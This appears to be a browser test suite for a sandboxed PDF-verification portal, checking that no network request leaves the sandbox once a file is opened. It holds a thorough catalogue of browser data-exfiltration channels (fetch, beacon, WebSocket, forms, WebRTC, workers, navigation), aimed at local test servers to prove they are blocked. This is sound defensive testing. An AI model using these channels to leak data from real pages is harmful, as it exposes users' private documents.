// The document never leaves the device. After a file is opened no request reaches any server, and a script inside the box that
// wants to send something finds every door shut. The order is kept: engine in, door locked, drop zone open.
// Not measured: `rel=preconnect` and `rel=dns-prefetch`, because headless Chromium connects for them from no page at all.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { choose, insideBox, launch, openPortal, ready, serveSilence, serveSite, serveStranger } from "./support.mjs";

const LETTER = { name: "surat.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.7\n1 0 obj\nnull\nendobj\n%%EOF\n") };

/** @type {Awaited<ReturnType<typeof launch>>} */ let browser;
/** @type {Awaited<ReturnType<typeof serveSite>>} */ let site;
/** @type {Awaited<ReturnType<typeof serveStranger>>} */ let stranger;
/** @type {Awaited<ReturnType<typeof serveSilence>>} */ let silence;

before(async () => {
  browser = await launch();
  [site, stranger, silence] = [await serveSite(), await serveStranger(), await serveSilence()];
});
after(async () => {
  await browser.close();
  for (const server of [site, stranger, silence]) server.close();
});

/**
 * Every way a script knows to send something, to the portal's own server and to a stranger. Runs inside a page.
 * @param {{ stranger: string, own: string, port: number }} where
 */
const sendEverything = async ({ stranger, own, port }) => {
  /** @type {string[]} */ const through = [];
  const attempt = async (/** @type {string} */ name, /** @type {(address: string) => unknown} */ act) => {
    for (const [where, base] of [["own", own], ["stranger", stranger]]) {
      try {
        const result = await Promise.race([act(base + "keluar?" + name), new Promise((resolve) => setTimeout(() => resolve("silent"), 300))]);
        if (result === "sent") through.push(name + " " + where);
      } catch { /* refused, as it should be */ }
    }
  };
  const add = (/** @type {string} */ tag, /** @type {Record<string, string>} */ attributes, text = "") => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  await attempt("fetch", (to) => fetch(to, { mode: "no-cors", method: "POST", body: "rahasia" }).then(() => "sent"));
  await attempt("fetch-keepalive", (to) => fetch(to, { mode: "no-cors", keepalive: true }).then(() => "sent"));
  await attempt("xhr", (to) => { const x = new XMLHttpRequest(); x.open("GET", to, false); x.send(); return "sent"; });
  await attempt("beacon", (to) => navigator.sendBeacon(to, "rahasia"));
  await attempt("event-source", (to) => new Promise((resolve) => { new EventSource(to).onopen = () => resolve("sent"); }));
  await attempt("web-socket", (to) => new Promise((resolve) => { new WebSocket(to.replace("http", "ws")).onopen = () => resolve("sent"); }));
  await attempt("image", (to) => new Promise((resolve) => { const i = new Image(); i.onload = () => resolve("sent"); i.src = to; }));
  await attempt("script", (to) => add("script", { src: to }));
  await attempt("module", (to) => import(to));
  await attempt("stylesheet", (to) => add("link", { rel: "stylesheet", href: to }));
  for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "icon", "manifest"]) await attempt("link-" + rel, (to) => add("link", { rel, href: to, as: "script" }));
  await attempt("css-image", (to) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`body { background: url("${to}") }`); document.adoptedStyleSheets = [sheet]; return new Promise((resolve) => setTimeout(resolve, 250)); });
  await attempt("css-attribute", (to) => { document.body.style.backgroundImage = `url("${to}")`; return new Promise((resolve) => setTimeout(resolve, 250)); });
  await attempt("font", (to) => new FontFace("x", `url("${to}")`).load().then(() => "sent"));
  for (const tag of ["video", "audio", "embed", "iframe", "track", "source"]) await attempt(tag, (to) => add(tag, { src: to }));
  await attempt("object", (to) => add("object", { data: to }));
  await attempt("svg-use", (to) => { const use = document.createElementNS("http://www.w3.org/2000/svg", "image"); use.setAttribute("href", to); const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); svg.append(use); document.body.append(svg); });
  await attempt("worker", (to) => new Worker(/** @type {any} */ (to)));
  await attempt("shared-worker", (to) => new SharedWorker(/** @type {any} */ (to)));
  await attempt("blob-worker", (to) => new Worker(/** @type {any} */ (URL.createObjectURL(new Blob([`fetch("${to}")`], { type: "text/javascript" })))));
  await attempt("form-get", (to) => { const form = /** @type {HTMLFormElement} */ (add("form", { action: to, target: "_blank" })); form.submit(); });
  await attempt("form-post", (to) => { const form = /** @type {HTMLFormElement} */ (add("form", { action: to, method: "post", target: "_blank" })); form.submit(); });
  await attempt("popup", (to) => { if (window.open(to)) return "sent"; });
  await attempt("anchor-blank", (to) => add("a", { href: to, target: "_blank" }).click());
  await attempt("ping", (to) => add("a", { href: "#x", ping: to }).click());
  await attempt("peer", () => {
    const Peer = /** @type {any} */ (globalThis).RTCPeerConnection ?? /** @type {any} */ (globalThis).webkitRTCPeerConnection;
    const peer = new Peer({ iceServers: [{ urls: "stun:127.0.0.1:" + port }] });
    peer.createDataChannel("x");
    return peer.createOffer().then((/** @type {any} */ offer) => peer.setLocalDescription(offer)).then(() => new Promise((resolve) => setTimeout(resolve, 250))).then(() => "sent");
  });
  await attempt("top-navigation", (to) => { window.top.location.href = to; });
  await attempt("parent-navigation", (to) => { window.parent.location.replace(to); });
  await attempt("speculation", (to) => add("script", { type: "speculationrules" }, JSON.stringify({ prefetch: [{ source: "list", urls: [to] }] })));
  await attempt("blank-frame", (to) => { const inner = /** @type {HTMLIFrameElement} */ (add("iframe", {})); return /** @type {any} */ (inner.contentWindow).fetch(to, { mode: "no-cors" }).then(() => "sent"); });
  await attempt("cookie-store", (to) => { document.cookie = "a=" + to; });
  await attempt("local-storage", (to) => { localStorage.setItem("a", to); return "sent"; });
  await attempt("cache", (to) => caches.open("a").then((cache) => cache.add(to)).then(() => "sent"));
  await attempt("service-worker", (to) => navigator.serviceWorker.register(/** @type {any} */ (to)).then(() => "sent"));
  return through;
};

test("drop_zone_opens_only_after_the_lock", async () => {
  /** @type {(bytes: Buffer) => void} */ let release = () => {};
  const held = new Promise((resolve) => { release = () => resolve(undefined); });
  const portal = await openPortal(browser, "about:blank");
  await portal.page.route("**/verifier.wasm", async (route) => { await held; await route.continue(); });
  await portal.page.addInitScript(() => {
    globalThis.order = [];
    new MutationObserver((changes) => {
      for (const change of changes) {
        if (change.type === "attributes" && change.target instanceof HTMLInputElement) globalThis.order.push(change.target.disabled ? "zone shut" : "zone open");
        for (const node of change.addedNodes) if (node instanceof HTMLMetaElement && document.readyState === "complete") globalThis.order.push("lock " + node.content);
      }
    }).observe(document, { subtree: true, childList: true, attributes: true, attributeFilter: ["disabled"] });
  });
  await portal.page.goto(site.base);
  await portal.input.waitFor({ state: "attached" });
  assert.equal(await portal.input.isDisabled(), true, "shut while the engine is on its way");
  assert.match(await portal.box.locator("lock-state").innerText(), /disiapkan/);
  release(Buffer.alloc(0));
  await ready(portal);
  assert.equal(await portal.input.isDisabled(), false);
  assert.match(await portal.box.locator("lock-state").innerText(), /Kotak terkunci/);
  const order = await (await insideBox(portal)).evaluate(() => globalThis.order);
  assert.deepEqual(order.map((step) => step.slice(0, 23)), ["zone shut", "lock default-src 'none';", "zone open"].map((step) => step.slice(0, 23)));
  await portal.context.close();
});

test("no_request_after_a_file_is_opened", async () => {
  const portal = await ready(await openPortal(browser, site.base));
  const before = site.log.length;
  await choose(portal, LETTER);
  await choose(portal, [LETTER, { ...LETTER, name: "kedua.pdf" }], 2);
  await portal.page.waitForTimeout(500);
  assert.deepEqual(site.log.slice(before), []);
  assert.deepEqual(stranger.log, []);
  assert.match(await portal.box.locator("lock-state .count").innerText(), /Permintaan jaringan sejak berkas dibuka: 0$/);
  assert.deepEqual(portal.complaints, []);
  await portal.context.close();
});

test("the_same_attempts_do_arrive_from_an_ordinary_page", async () => {
  const [plain, far, ears] = [await serveStranger(), await serveStranger(), await serveSilence()];
  const page = await (await browser.newContext()).newPage();
  await page.goto(plain.origin + "/plain");
  await page.evaluate(sendEverything, { stranger: far.origin + "/", own: plain.origin + "/", port: ears.port }).catch(() => {});
  await page.waitForTimeout(1_000);
  const heard = [...plain.log, ...far.log].join("\n");
  for (const name of ["fetch", "xhr", "beacon", "event-source", "web-socket", "image", "script", "module", "stylesheet", "css-image", "font", "iframe", "object", "worker", "form-post", "popup"]) {
    assert.match(heard, new RegExp("keluar\\?" + name + "\\b"), name + " would be heard");
  }
  assert.notEqual(ears.packets.length, 0, "peer connections would be heard");
  await page.context().close();
  for (const server of [plain, far, ears]) server.close();
});

test("nothing_sent_from_inside_the_box_arrives", async () => {
  const portal = await ready(await openPortal(browser, site.base));
  await choose(portal, LETTER);
  const before = site.log.length;
  const frame = await insideBox(portal);
  const tried = await frame.evaluate(sendEverything, { stranger: stranger.origin + "/", own: site.base, port: silence.port });
  await portal.page.waitForTimeout(1_500);
  assert.deepEqual(tried, []);
  assert.deepEqual(site.log.slice(before), []);
  assert.deepEqual(stranger.log, []);
  assert.deepEqual(silence.packets, []);
  assert.equal(portal.page.url(), site.base, "the page is where it was");
  assert.match(await portal.box.locator("lock-state .count").innerText(), /Ditolak kunci: [1-9]/);
  await portal.context.close();
});

for (const [name, act] of /** @type {[string, (to: string) => void][]} */ ([
  ["location", (to) => { location.href = to; }],
  ["replace", (to) => { location.replace(to); }],
  ["anchor", (to) => { const a = document.createElement("a"); a.href = to; document.body.append(a); a.click(); }],
  ["download_anchor", (to) => { const a = document.createElement("a"); a.href = to; a.download = "x"; document.body.append(a); a.click(); }],
  ["meta_refresh", (to) => { const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=" + to; document.head.append(meta); }],
  ["form_self", (to) => { const form = document.createElement("form"); form.action = to; form.method = "post"; document.body.append(form); form.submit(); }],
  ["reload", () => { location.reload(); }],
  ["history", (to) => { history.pushState(null, "", to); location.reload(); }],
])) {
  test("the_box_itself_cannot_go_elsewhere_by_" + name, async () => {
    for (const base of [stranger.origin + "/", site.base + "kotak/"]) {
      const portal = await ready(await openPortal(browser, site.base));
      await choose(portal, LETTER);
      const before = site.log.length;
      await (await insideBox(portal)).evaluate(`try { (${act})(${JSON.stringify(base + "?rahasia")}) } catch {}`).catch(() => {});
      await portal.page.waitForTimeout(600);
      assert.deepEqual(site.log.slice(before), [], "to " + base);
      assert.deepEqual(stranger.log, [], "to " + base);
      await portal.context.close();
    }
  });
}

test("a_box_opened_outside_its_frame_stays_shut", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(site.base + "kotak/");
  await page.waitForTimeout(500);
  assert.equal(await page.locator("input[type=file]").isDisabled(), true);
  await context.close();
});

test("the_box_listens_only_to_the_page_that_holds_it", async () => {
  const portal = await ready(await openPortal(browser, site.base));
  const frame = await insideBox(portal);
  await frame.evaluate(() => {
    const channel = new MessageChannel();
    window.postMessage({ periksa: 1, type: "connect" }, "*", [channel.port2]);
    channel.port1.postMessage({ type: "engine", wasm: new ArrayBuffer(0), trustedRoot: new ArrayBuffer(0), crls: [], newest: null, missing: 3 });
  });
  await portal.page.waitForTimeout(300);
  assert.equal(await portal.box.locator("sealed-box > .trouble").isVisible(), false);
  await portal.context.close();
});
